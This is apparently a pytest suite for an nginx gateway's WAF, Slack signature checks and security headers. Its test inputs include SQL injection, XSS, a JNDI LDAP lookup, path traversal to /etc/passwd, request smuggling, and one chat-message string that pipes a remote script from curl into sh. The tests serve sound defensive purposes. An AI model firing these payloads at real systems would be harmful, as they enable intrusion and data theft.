"""Slack signatures, WAF behaviour (modes, protocol checks, IP lists, metrics, logs) and security
headers, through the real nginx."""

from __future__ import annotations

import hashlib
import hmac
import json
import socket
import ssl
import time
from typing import Any

import httpx
import pytest
from stackctl import StackHandle

from .sec_upstream import SecUpstream

pytestmark = pytest.mark.stack


def slack_headers(secret: str, body: bytes, ts: int | None = None) -> dict[str, str]:
    ts = int(time.time()) if ts is None else ts
    sig = hmac.new(secret.encode(), f"v0:{ts}:".encode() + body, hashlib.sha256).hexdigest()
    return {"X-Slack-Request-Timestamp": str(ts), "X-Slack-Signature": f"v0={sig}",
            "Content-Type": "application/json"}


def log_entry(stack: StackHandle, request_id: str) -> dict[str, Any]:
    """The access-log line of one request (nginx flushes its buffered access log within a second)."""
    deadline = time.monotonic() + 10
    while True:
        found = [e for e in stack.access_log_lines() if e["request_id"] == request_id]
        if found or time.monotonic() > deadline:
            assert found, request_id
            return found[0]
        time.sleep(0.05)


# ---- Slack signature ------------------------------------------------------------------------------
SLACK_BODY = json.dumps({"type": "url_verification", "challenge": "edge-check", "token": "x"}).encode()


def test_signed_slack_request_reaches_jeeves(sec_stack: StackHandle, sec_client: httpx.Client) -> None:
    headers = slack_headers(sec_stack.secret("slack_signing_secret"), SLACK_BODY)
    resp = sec_client.post("/slack/events", content=SLACK_BODY, headers=headers)
    assert resp.status_code == 200, resp.text
    assert "edge-check" in resp.text


CODE_MESSAGE = ("can someone run `SELECT name, password FROM users WHERE id = '1' OR '1'='1'; DROP TABLE sessions;--`"
                " and then `curl -s http://10.0.0.5/x.sh | sh; cat /etc/passwd` on the box? <script>alert(1)</script>")


def slack_event(text: str, envelope_type: str = "event_callback") -> bytes:
    return json.dumps({"token": "x", "team_id": "T061EG9R6", "type": envelope_type, "event_id": "Ev1",
                       "event": {"type": "message", "user": "U1", "channel": "C1", "ts": "1.2", "text": text}}).encode()


# what else developers post: a CI workflow's template expression, a loopback URL, a Java stack trace, a "%00"
CHAT_MESSAGES = [CODE_MESSAGE, "use ${{ secrets.DEPLOY_KEY }} in the workflow, not the raw token",
                 "http://127.0.0.1:8080/admin is the local panel, ${user.name!\"anon\"} is the Freemarker default",
                 "prod fails with java.lang.ClassNotFoundException: org.postgresql.Driver\n"
                 "\tat java.base/java.net.URLClassLoader.findClass(URLClassLoader.java:445)",
                 # a percent-encoded NUL named in a message: CRS 920270 URL-decodes it to a NUL byte
                 "the %00 in the upload's filename test is expected to fail validation"]


@pytest.mark.parametrize("text", CHAT_MESSAGES,
                         ids=["sql_and_shell", "template", "loopback_url", "java_stack_trace", "encoded_nul"])
def test_signed_slack_message_full_of_code_passes_the_waf(sec_stack: StackHandle, sec_client: httpx.Client,
                                                          text: str) -> None:
    body = slack_event(text)
    resp = sec_client.post("/slack/events", content=body,
                           headers=slack_headers(sec_stack.secret("slack_signing_secret"), body))
    assert resp.status_code != 403, resp.text
    entry = log_entry(sec_stack, resp.headers["X-Request-Id"])
    assert "waf=block" not in entry["decisions"] and entry["upstream"] != ""


def test_the_same_slack_message_unsigned_or_elsewhere_is_blocked(sec_stack: StackHandle,
                                                                   sec_client: httpx.Client) -> None:
    body = slack_event(CODE_MESSAGE)
    unsigned = sec_client.post("/slack/events", content=body, headers={"Content-Type": "application/json"})
    assert unsigned.status_code == 403 and unsigned.json()["error"] == "request_blocked", unsigned.text
    forged = sec_client.post("/slack/events", content=body,
                             headers=slack_headers("not-the-secret", body))
    assert forged.status_code == 403 and forged.json()["error"] == "request_blocked"
    api = sec_client.post("/api/users", content=body, headers={"Content-Type": "application/json"})
    assert api.status_code == 403 and api.json()["error"] == "request_blocked"
    # signed, the envelope keeps every rule: an injection outside the message text is still blocked
    envelope = slack_event("hello", envelope_type="event_callback' OR '1'='1")
    signed = sec_client.post("/slack/events", content=envelope,
                             headers=slack_headers(sec_stack.secret("slack_signing_secret"), envelope))
    assert signed.status_code == 403 and signed.json()["error"] == "request_blocked", signed.text


# a payload typed after a bot command's lead-in, where only the rules anchored at a value's start or end see it;
# beside it the same lead-in with what people type there
LEAD_IN_PAYLOADS = {"sql_fragment": ("ticket title: ')) union", "ticket title: printer (3rd floor) jammed"),
                    "dotfile": ("<@U07BOT> can you find .git/config", "<@U07BOT> can you find ann.lee@example.com"),
                    "boolean": ("search 1 and false ?", "search 2 and 3 bed flats ?")}


@pytest.mark.parametrize("case", LEAD_IN_PAYLOADS)
def test_a_payload_after_a_chat_lead_in_is_blocked_unsigned(sec_client: httpx.Client, case: str) -> None:
    attack, command = LEAD_IN_PAYLOADS[case]
    unsigned = sec_client.post("/slack/events", content=slack_event(attack),
                               headers={"Content-Type": "application/json"})
    assert unsigned.status_code == 403 and unsigned.json()["error"] == "request_blocked", unsigned.text
    # the command people type is refused for its signature only
    resp = sec_client.post("/slack/events", content=slack_event(command), headers={"Content-Type": "application/json"})
    assert resp.status_code == 401, resp.text


CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
          "Safari/537.36")
# a payload where browsers carry it besides the form: the query of the page before (Referer), text appended to the
# User-Agent; beside each the same header as browsers send it
HEADER_PAYLOADS = {"referer_query": ({"Referer": "https://app.example.com/search?page=2&q=%27))%20union"},
                                     {"Referer": "https://app.example.com/search?page=2&q=O%27Brien%20%26%20Sons"}),
                   "user_agent_tail": ({"User-Agent": CHROME + " ini_get_all"}, {"User-Agent": CHROME})}


@pytest.mark.parametrize("case", HEADER_PAYLOADS)
def test_a_payload_in_a_referers_query_or_after_a_user_agent_is_blocked(sec_client: httpx.Client, case: str) -> None:
    attack, browser = HEADER_PAYLOADS[case]
    blocked = sec_client.get("/sec/waf/x", headers=attack)
    assert blocked.status_code == 403 and blocked.json()["error"] == "request_blocked", blocked.text
    assert sec_client.get("/sec/waf/x", headers=browser).status_code == 200


def test_an_attack_with_a_method_the_route_refuses_is_a_403_not_a_405(sec_client: httpx.Client) -> None:
    # /me/ takes GET, HEAD and POST: a PATCH is refused either way, an attack as the attack it is
    attack = sec_client.patch("/me/settings", json={"bio": "${jndi:ldap://203.0.113.9/a}"})
    assert attack.status_code == 403 and attack.json()["error"] == "request_blocked", attack.text
    plain = sec_client.patch("/me/settings", json={"bio": "Hiking, chess and green tea"})
    assert plain.status_code == 405 and plain.json()["error"] == "method_not_allowed", plain.text
    assert plain.headers["Allow"] == "GET, HEAD, POST"


def test_a_forwarding_header_outside_its_grammar_is_blocked(sec_client: httpx.Client) -> None:
    # fragments no signature reads, in headers a proxy writes: an app logs or trusts them as the client's
    for attack in ({"X-Forwarded-For": "203.0.113.9, '"}, {"Forwarded": "for=203.0.113.9;host=--"},
                   {"X-Real-IP": "ps aux"}, {"Accept-Language": "en;q=0.9, bin/sh"}):
        blocked = sec_client.get("/sec/waf/x", headers=attack)
        assert blocked.status_code == 403 and 120490 in blocked.json()["rules"], (attack, blocked.text)
    proxied = {"X-Forwarded-For": "203.0.113.9, 10.0.0.1:51234, 2001:db8::1",
               "Forwarded": 'for="[2001:db8:cafe::17]:4711";proto=https;host=app.example.com:8443',
               "X-Forwarded-Host": "app.example.com", "X-Forwarded-Proto": "https", "X-Real-IP": "203.0.113.9",
               "Accept-Language": "de-CH,de;q=0.9,en;q=0.8"}
    assert sec_client.get("/sec/waf/x", headers=proxied).status_code == 200


def test_a_route_at_paranoia_level_2_runs_the_rules_the_others_do_not(sec_client: httpx.Client) -> None:
    # a value that is a link to another site: CRS 931130 (PL2) reads it as a remote include
    params = {"q": "https://wiki.example.org/team/notes"}
    strict = sec_client.get("/sec/pl2/x", params=params)
    assert strict.status_code == 403 and 931130 in strict.json()["rules"], strict.text
    # the routes at gateway.yaml's level, 1, do not run it
    assert sec_client.get("/sec/waf/x", params=params).status_code == 200


@pytest.mark.parametrize("case", ["unsigned", "wrong_secret", "stale", "future", "tampered_body", "bad_format"])
def test_bad_slack_signature_is_401_at_the_edge(sec_stack: StackHandle, sec_client: httpx.Client,
                                                 case: str) -> None:
    secret = sec_stack.secret("slack_signing_secret")
    headers = slack_headers(secret, SLACK_BODY)
    body = SLACK_BODY
    if case == "unsigned":
        headers = {"Content-Type": "application/json"}
    elif case == "wrong_secret":
        headers = slack_headers("not-the-secret", SLACK_BODY)
    elif case == "stale":
        headers = slack_headers(secret, SLACK_BODY, ts=int(time.time()) - 301 - 5)
    elif case == "future":
        headers = slack_headers(secret, SLACK_BODY, ts=int(time.time()) + 400)
    elif case == "tampered_body":
        body = SLACK_BODY.replace(b"edge-check", b"edge-chekk")
    elif case == "bad_format":
        headers["X-Slack-Signature"] = "v1=" + headers["X-Slack-Signature"][3:]
    resp = sec_client.post("/slack/events", content=body, headers=headers)
    assert resp.status_code == 401
    assert resp.json()["error"] == "invalid_signature"
    assert log_entry(sec_stack, resp.headers["X-Request-Id"])["upstream"] == ""   # Jeeves never saw it


# ---- WAF behaviour --------------------------------------------------------------------------------
def test_block_names_rules_and_logs_them(sec_stack: StackHandle, sec_client: httpx.Client) -> None:
    resp = sec_client.get("/sec/waf/x", params={"q": "<script>alert(1)</script>"})
    assert resp.status_code == 403
    body = resp.json()
    assert body["error"] == "request_blocked" and 941100 in body["rules"]
    assert body["request_id"] == resp.headers["X-Request-Id"]
    log = sec_stack.log("gateway-error")
    assert f"request_id={body['request_id']}" in log and "waf block" in log
    metrics = httpx.get(f"http://127.0.0.1:{sec_stack.ports['metrics']}/metrics", trust_env=False).text
    assert 'edge_waf_rule_matches_total{rule="941100",category="xss"}' in metrics
    assert 'edge_waf_requests_total{route="sec_waf",action="block"}' in metrics


def test_detect_mode_logs_but_passes(sec_stack: StackHandle, sec_client: httpx.Client,
                                     sec_upstream: SecUpstream) -> None:
    resp = sec_client.get("/sec/detect/x", params={"q": "1' union select password from users--"})
    assert resp.status_code == 200
    assert sec_upstream.hits["/sec/detect/x"] >= 1
    assert "waf detect: route=sec_detect" in sec_stack.log("gateway-error")
    entry = log_entry(sec_stack, resp.headers["X-Request-Id"])
    assert entry["decisions"].startswith("waf=detect:")


def test_denied_cidr_is_blocked(sec_client: httpx.Client) -> None:
    resp = sec_client.get("/sec/ipdeny/x")
    assert resp.status_code == 403
    assert resp.json()["rules"] == [110100]


@pytest.mark.parametrize("ua", ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)",
                                "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"])
def test_scanner_user_agents_are_blocked(sec_client: httpx.Client, ua: str) -> None:
    resp = sec_client.get("/sec/waf/x", headers={"User-Agent": ua})
    assert resp.status_code == 403 and {113100, 913100} & set(resp.json()["rules"])   # ours, the CRS's


@pytest.mark.parametrize("method", ["TRACE", "TRACK", "PROPFIND", "CONNECTX"])
def test_disallowed_methods_are_blocked(sec_client: httpx.Client, method: str) -> None:
    resp = sec_client.request(method, "/sec/waf/x")
    assert resp.status_code in (403, 405)
    if resp.status_code == 403:
        assert 911100 in resp.json()["rules"]


def test_oversized_header_is_blocked(sec_client: httpx.Client) -> None:
    resp = sec_client.get("/sec/waf/x", headers={"X-Padding": "a" * 9000})
    assert resp.status_code == 403 and 120380 in resp.json()["rules"]


def test_cookies_are_inspected_one_by_one(sec_client: httpx.Client) -> None:
    # The injection sits in the second cookie: scanned as part of the whole header it does not start a
    # value, where the anchored SQL rule looks for it.
    sqli = "%27%20insert%20into%20users%28login%2C%20password%29%20values%28%27a%27%2C%20%27b%27%29"
    blocked = sec_client.get("/sec/waf/x", headers={"Cookie": f"session=Zq81xVb0; q={sqli}"})
    assert blocked.status_code == 403
    assert any(rule // 1000 in (142, 942) for rule in blocked.json()["rules"]), blocked.json()
    plain = sec_client.get("/sec/waf/x", headers={"Cookie": "session=Zq81xVb0; theme=dark; q=O%27Neil%20%26%20sons"})
    assert plain.status_code != 403
    # the same injection in a second Cookie header line
    split = sec_client.get("/sec/waf/x", headers=[("Cookie", "session=Zq81xVb0"), ("Cookie", f"q={sqli}")])
    assert split.status_code == 403


def test_template_expressions_are_seen_across_line_breaks_but_not_across_braces(sec_client: httpx.Client) -> None:
    blocked = sec_client.get("/sec/waf/x", params={"q": "{{\n\trequest.application\r\n}}"})
    assert blocked.status_code == 403 and 134100 in blocked.json()["rules"]
    # two plain placeholders with ordinary text (an apostrophe) between them: no expression inside either
    plain = sec_client.get("/sec/waf/x", params={"q": "Hi {{ name }},\nit's your turn: {{ date }}"})
    assert plain.status_code != 403


@pytest.mark.parametrize("payload", ["') or ('a')=('a", '") OR ("b")=("b', "1) or (2)>(1", "x') AND ('y')!=('z"])
def test_tautologies_with_parenthesised_operands_are_blocked(sec_client: httpx.Client, payload: str) -> None:
    resp = sec_client.get("/sec/waf/x", params={"q": payload})
    assert resp.status_code == 403 and any(r // 1000 in (142, 942) for r in resp.json()["rules"]), payload


def test_requests_outside_every_route_pass_the_waf_before_their_404(sec_client: httpx.Client) -> None:
    probe = sec_client.get("/cgi-bin/status", params={"file": "../../../../etc/passwd"})
    assert probe.status_code == 403 and probe.json()["error"] == "request_blocked", probe.text
    plain = sec_client.get("/no/such/page", params={"q": "ordinary words"})
    assert plain.status_code == 404 and plain.json()["error"] == "not_found"


@pytest.mark.parametrize("payload", ["x=\\`whoami\\`", "user=`id\\`;"])
def test_command_substitution_with_escaped_backticks_is_blocked(sec_client: httpx.Client, payload: str) -> None:
    # \` is a backtick once the string it sits in is unescaped (a shell or a template in between)
    resp = sec_client.get("/sec/waf/x", params={"q": payload})
    assert resp.status_code == 403 and 132280 in resp.json()["rules"], payload


def test_foreign_host_is_blocked(sec_client: httpx.Client) -> None:
    resp = sec_client.get("/sec/waf/x", headers={"Host": "evil.example.com"})
    assert resp.status_code == 403 and 120350 in resp.json()["rules"]


def raw_request(stack: StackHandle, payload: bytes) -> bytes:
    ctx: ssl.SSLContext = stack.ssl_context()
    with socket.create_connection(("127.0.0.1", stack.ports["https"]), timeout=10) as raw, \
            ctx.wrap_socket(raw, server_hostname="localhost") as tls:
        tls.sendall(payload)
        data = b""
        while chunk := tls.recv(65536):
            data += chunk
    return data


def test_http10_without_host_is_blocked(sec_stack: StackHandle) -> None:
    data = raw_request(sec_stack, b"GET /sec/waf/x HTTP/1.0\r\n\r\n")
    assert data.startswith(b"HTTP/1.1 403")
    assert b"120280" in data and b"920280" in data   # ours and the CRS's


def test_attacks_nginx_refuses_are_still_judged_by_the_waf(sec_stack: StackHandle) -> None:
    # nginx answers 400 itself to a path that climbs above the root, before any route or policy runs
    attack = raw_request(sec_stack, b"GET /sec/waf/../../../etc/passwd HTTP/1.1\r\nHost: localhost\r\n"
                                    b"Connection: close\r\n\r\n")
    assert attack.startswith(b"HTTP/1.1 403"), attack[:200]
    body = json.loads(attack[attack.index(b"{"):attack.rindex(b"}") + 1])   # past the chunk sizes
    # judged on its request line (traversal), not on the headers nginx never read (no "missing Host")
    assert body["error"] == "request_blocked", body
    assert any(r // 1000 in (130, 930) for r in body["rules"]) and 920280 not in body["rules"], body
    # a request nginx refuses at its request line that is no attack keeps its 400
    plain = raw_request(sec_stack, b"GET /sec/waf/%zz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    assert plain.startswith(b"HTTP/1.1 400"), plain[:200]
    assert b'"bad_request"' in plain


def test_control_character_in_a_header_is_the_edges_json_error(sec_stack: StackHandle,
                                                                sec_upstream: SecUpstream) -> None:
    # nginx passes it on, and the upstream's HTTP parser answered a text/plain 400 of its own
    before = sec_upstream.hits["/sec/waf/ctl"]
    data = raw_request(sec_stack, b"GET /sec/waf/ctl HTTP/1.1\r\nHost: localhost\r\nX-Note: a\x01b\r\n"
                                  b"Connection: close\r\n\r\n")
    assert data.startswith(b"HTTP/1.1 403") and b"application/json" in data, data[:300]
    assert b"120271" in data
    assert sec_upstream.hits["/sec/waf/ctl"] == before


def test_conflicting_length_and_chunked_never_reach_upstream(sec_stack: StackHandle,
                                                             sec_upstream: SecUpstream) -> None:
    before = sec_upstream.hits["/sec/waf/smuggle"]
    data = raw_request(sec_stack, b"POST /sec/waf/smuggle HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\n"
                                  b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
                                  b"0\r\n\r\nGET /x HTTP/1.1\r\n\r\n")
    status = int(data.split(b" ", 2)[1])
    assert status in (400, 403)
    assert b'"error"' in data
    assert sec_upstream.hits["/sec/waf/smuggle"] == before


def test_body_over_route_limit_is_413(sec_client: httpx.Client) -> None:
    resp = sec_client.post("/sec/waf/x", content=b"a=" + b"x" * 9000,
                           headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert resp.status_code == 413
    assert resp.json()["error"] == "payload_too_large"


def test_json_body_is_inspected_after_decoding(sec_client: httpx.Client) -> None:
    body = json.dumps({"name": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "tags": ["ok"]})
    resp = sec_client.post("/sec/waf/x", content=body, headers={"Content-Type": "application/json"})
    assert resp.status_code == 403


def test_ordinary_text_with_quotes_passes(sec_client: httpx.Client) -> None:
    form = {"display_name": "Sinéad O'Brien", "notes": "Name change: O'Neil -> O'Neill; ping me at 10:30 :)"}
    resp = sec_client.post("/sec/waf/x", data=form)
    assert resp.status_code == 200


def test_repeated_requests_keep_their_verdict(sec_client: httpx.Client) -> None:
    """Scans are cached per worker (by value and by whole request URI): repeats, on every worker, get
    the first verdict, and a payload first seen in a URI is still caught in a header and a form."""
    attack, clean = "/sec/waf/x?q=1%27%20or%20%271%27%3D%271&page=2", "/sec/waf/x?q=mary%20o%27neil&page=2"
    for _ in range(6):
        assert sec_client.get(attack).status_code == 403
        assert sec_client.get(clean).status_code == 200
    assert sec_client.get("/sec/waf/x", headers={"X-Search": "1' or '1'='1"}).status_code == 403
    assert sec_client.post("/sec/waf/x", data={"q": "1' or '1'='1"}).status_code == 403
    for _ in range(4):
        assert sec_client.get("/sec/waf/x", headers={"Host": "evil.example.com"}).status_code == 403
        assert sec_client.get("/sec/waf/x").status_code == 200

# ---- security headers -----------------------------------------------------------------------------
def test_security_headers_everywhere_and_csp_on_admin(sec_client: httpx.Client) -> None:
    for path in ("/healthz", "/api/users", "/admin/login", "/admin/no-such-page"):
        resp = sec_client.get(path)
        assert resp.headers["Strict-Transport-Security"].startswith("max-age="), path
        assert resp.headers["X-Content-Type-Options"] == "nosniff", path
        assert resp.headers["Referrer-Policy"] == "no-referrer", path
        assert resp.headers["Server"] == "nginx", path
    for path in ("/admin/login", "/admin/no-such-page"):
        csp = sec_client.get(path).headers["Content-Security-Policy"]
        assert "default-src 'none'" in csp and "frame-ancestors 'none'" in csp
